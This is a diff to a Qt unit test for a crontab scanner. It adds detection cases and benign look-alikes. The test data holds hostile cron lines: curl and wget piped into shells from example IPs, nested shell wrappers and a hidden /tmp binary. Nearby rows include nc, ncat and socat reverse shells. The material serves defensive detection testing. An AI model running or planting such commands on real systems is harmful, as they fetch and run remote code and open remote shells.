@@ -239,6 +239,13 @@ void TestCronImporter::detections_data()
                                         << QStringList{dl};
     QTest::newRow("curl piped to python")
         << QByteArray("@hourly curl -s https://203.0.113.7/p.py | python3 -") << QStringList{dl};
+    QTest::newRow("sh -c 'curl | sh'") << QByteArray("*/5 * * * * /bin/sh -c 'curl -s http://198.51.100.7/a | sh'")
+                                       << QStringList{dl};
+    QTest::newRow("sudo -u sh -c wget | bash")
+        << QByteArray("@hourly sudo -u app sh -ec \"wget -qO- http://198.51.100.7/a | bash\"") << QStringList{dl};
+    QTest::newRow("shell in a shell") << QByteArray("@reboot bash -lc \"sh -c 'wget -qO- http://198.51.100.7/x | sh'\"")
+                                      << QStringList{dl};
+    QTest::newRow("sh -c cd /tmp && ./x") << QByteArray("@daily sh -c 'cd /tmp && ./.x'") << QStringList{tmp};
     QTest::newRow("nc -e") << QByteArray("@reboot nc -e /bin/sh 203.0.113.7 4444") << QStringList{rs};
     QTest::newRow("ncat --sh-exec") << QByteArray("@hourly ncat 203.0.113.7 443 --sh-exec 'bash'") << QStringList{rs};
     QTest::newRow("socat exec") << QByteArray("@hourly socat TCP:203.0.113.7:443 EXEC:/bin/bash") << QStringList{rs};
@@ -269,6 +276,9 @@ void TestCronImporter::detections_data()
     // Benign look-alikes.
     QTest::newRow("curl health check") << QByteArray("*/5 * * * * curl -fsS https://example/health > /dev/null")
                                        << none;
+    QTest::newRow("sh -c health check") << QByteArray("*/5 * * * * sh -c 'curl -fsS https://hc.example/ok > /dev/null'")
+                                        << none;
+    QTest::newRow("sh -c script file") << QByteArray("0 4 * * * sh -c /opt/backup/run.sh") << none;
     QTest::newRow("find in /tmp") << QByteArray("0 2 * * * /usr/bin/find /tmp -mtime +7 -delete") << none;
     QTest::newRow("anacron stock") << QByteArray("25 6 * * * test -x /usr/sbin/anacron || ( cd / && run-parts "
                                                  "--report /etc/cron.daily )")
